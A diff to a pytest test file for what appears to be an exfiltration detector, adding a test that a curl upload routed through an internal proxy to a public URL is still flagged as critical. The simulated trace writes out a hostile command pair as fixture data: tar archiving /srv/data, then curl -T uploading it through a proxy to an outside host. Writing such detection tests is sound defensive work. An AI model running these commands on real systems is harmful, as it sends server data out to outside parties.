@@ -62,3 +62,20 @@ def test_a_name_alone_allows_only_without_connection_telemetry_and_says_so(
     alerts, err = detect_and_report(capsys, str(path), *ALLOW, "--show-suppressed")
     assert exfil(alerts) == []
     assert "github.com allowed by name only: no connection telemetry" in err
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+@pytest.mark.parametrize("option", ["-x", "--proxy", "--socks5-hostname"])
+def test_an_internal_proxy_does_not_make_an_upload_to_an_outside_url_internal(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str, option: str
+) -> None:
+    # The bytes reach the outside URL through the proxy: only the proxy's address is seen, and
+    # naming an internal proxy must not turn the upload into an internal one.
+    trace = Trace()
+    trace.run(0, "tar", "czf", "/tmp/d.tgz", "/srv/data")
+    curl = trace.run(10, "curl", option, "10.0.0.5:3128", "-T", "/tmp/d.tgz", f"https://{PUBLIC}/")
+    trace.send(10.2, curl, "10.0.0.5", 5_000_000, port=3128)
+    [alert] = exfil(detect(capsys, str(trace.write(tmp_path, fmt))))
+    assert alert["severity_id"] >= 5  # critical: curl names the archive tar wrote
+    evidence = str(alert["evidences"])
+    assert f"non-internal {PUBLIC} (through {option} 10.0.0.5:3128)" in evidence
